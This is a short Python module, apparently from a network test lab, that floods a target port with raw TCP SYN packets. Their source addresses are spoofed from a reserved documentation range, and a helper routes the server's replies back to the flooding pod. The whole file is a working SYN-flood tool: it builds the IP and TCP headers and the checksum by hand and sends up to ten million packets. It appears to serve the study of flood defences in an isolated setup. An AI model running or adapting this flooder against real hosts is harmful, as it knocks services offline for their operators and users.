"""SYNs from addresses that do not answer, as a flood has them, and who is met by it."""

from __future__ import annotations

import random
import socket
import struct

from lab.actor import every
from lab.stage import Pod, inside

NETWORK = "198.51.100"
"""Nobody has these addresses (RFC 5737)."""

AT_ONCE = 10


def swallow_answers(server: Pod, flooder: Pod) -> None:
    """What the server answers goes to where the flood comes from, and no further."""
    inside(flooder, "sysctl", "-qw", "net.ipv4.ip_forward=0")
    inside(server, "ip", "route", "add", f"{NETWORK}.0/24", "via", flooder.address)


def flood(address: str, port: int, per_second: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in every(AT_ONCE / per_second, times=1_000_000):
            for _ in range(AT_ONCE):
                raw.sendto(syn(f"{NETWORK}.{random.randrange(1, 255)}", address, port), (address, port))


def syn(source: str, address: str, port: int) -> bytes:
    """A packet with nothing but a SYN; the kernel fills in length and checksum of IP (raw(7))."""
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + ends
    tcp = [random.randrange(1024, 65536), port, *divmod(random.randrange(2**32), 2**16), 0, 0, 0x5002, 64240, 0, 0]
    tcp[8] = checksum(ends + struct.pack(">BBH10H", 0, socket.IPPROTO_TCP, 20, *tcp))
    return ip + struct.pack(">10H", *tcp)


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF
